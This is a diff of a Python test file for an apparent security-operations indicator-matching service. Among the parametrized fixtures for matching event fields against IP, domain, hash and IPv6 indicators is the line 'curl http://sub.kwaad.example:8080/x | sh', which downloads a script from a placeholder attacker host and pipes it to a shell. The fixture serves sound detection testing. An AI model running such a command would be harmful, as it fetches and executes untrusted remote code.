@@ -33,7 +33,6 @@ from brandwacht.soc.models import (
     SigmaRule,
 )
 from brandwacht.soc.services import ListFacts, indicator_files, indicator_sets, lookback
-from brandwacht.soc.services.indicator_sets import candidates
 from brandwacht.soc.services.rule_text import read_event
 from tests.soc.conftest import line
 from tests.world import NOW, acting, acting_system, actor, mandate, organisation, person
@@ -115,30 +114,31 @@ class TestFiles:
             except Refused as error:
                 assert error.message
 
-    @given(st.text(max_size=200))
-    def test_any_value_of_an_event_gets_an_answer(self, text: str) -> None:
-        assert all(seen in text for seen, _known in candidates(text))
-
 
 @pytest.mark.parametrize(
-    ("value", "known"),
+    ("field", "value", "known"),
     [
-        ("203.0.113.9", BAD),
-        ("curl http://sub.kwaad.example:8080/x | sh", "kwaad.example"),
-        ("SHA1=00,SHA256=" + "AB" * 32, "ab" * 32),
-        ("Stuur naar Jan@Kwaad.Example", "Jan@kwaad.example"),
-        ("2001:db8::5", "2001:db8::5"),
+        ("DestinationIp", "203.0.113.9", BAD),
+        ("DestinationIp", "203.0.113.9", "203.0.113.0/24"),
+        ("CommandLine", "curl http://sub.kwaad.example:8080/x | sh", "kwaad.example"),
+        ("Hashes", "SHA1=00,SHA256=" + "AB" * 32, "ab" * 32),
+        ("DestinationIp", "2001:db8:0::5", "2001:db8::5"),
+        ("DestinationIp", "203.0.113.90", None),
+        ("DestinationHostname", "nietkwaad.example", None),
+        ("DestinationHostname", "kwaad.example.nl", None),
     ],
 )
-def test_where_a_value_may_stand(value: str, known: str) -> None:
-    assert known in [each for _seen, each in candidates(value)]
-
-
-@pytest.mark.parametrize("value", ["1203.0.113.9", "203.0.113.90", "nietkwaad.example", "kwaad.example.nl"])
-def test_what_only_looks_like_it(value: str) -> None:
-    found = [known for _seen, known in candidates(value)]
-    assert BAD not in found
-    assert "kwaad.example" not in found
+def test_where_a_value_may_stand(tmp_path: Path, field: str, value: str, known: str | None) -> None:
+    values = [("ipv4", BAD), ("domain", "kwaad.example"), ("sha256", "ab" * 32), ("ipv6", "2001:db8::5")]
+    if known and "/" in known:
+        values = [("ipv4", known)]
+    path = indicator_sets.path_of("lijst", 1)
+    indicator_sets.write_items(path, [indicator_sets.Item(*each) for each in values])
+    hits = indicator_sets.load("lijst", 1).find(read_event(line("curl.exe", **{field: value})))
+    assert [hit.item.value for hit in hits] == ([known] if known else [])
+    assert indicator_sets.set_of(path).exists()
+    if known and known != "2001:db8::5":
+        assert hits[0].field == field
 
 
 @pytest.mark.django_db
